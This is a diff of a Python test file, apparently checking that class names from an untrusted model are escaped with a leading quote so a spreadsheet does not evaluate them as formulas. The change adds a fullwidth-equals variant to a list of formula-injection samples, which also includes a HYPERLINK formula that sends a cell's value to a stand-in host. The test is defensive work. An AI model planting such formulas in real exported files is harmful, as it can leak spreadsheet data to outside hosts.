@@ -120,7 +120,7 @@ def test_class_names_of_a_foreign_model_are_no_formulas(model: Path, capsys: pyt
     assert frame["prediction"].tolist() == ['\'=HYPERLINK("http://x/?"&A1)', "-1"]
     assert frame.columns[2:].tolist() == ["probability_-1", 'probability_=HYPERLINK("http://x/?"&A1)']
     assert "class names that a spreadsheet would calculate are written with '" in capsys.readouterr().out
-    for name in ("+1+2", "-x", "@SUM(A1)", "\t=1", "\r=1"):
+    for name in ("+1+2", "-x", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1"):
         plain["schema"]["classes"] = ["rest", name]
         model.write_text(json.dumps(plain))
         assert predicted(model, "hr,acc,side\n120,0,right\n")["prediction"].tolist() == [f"'{name}"]
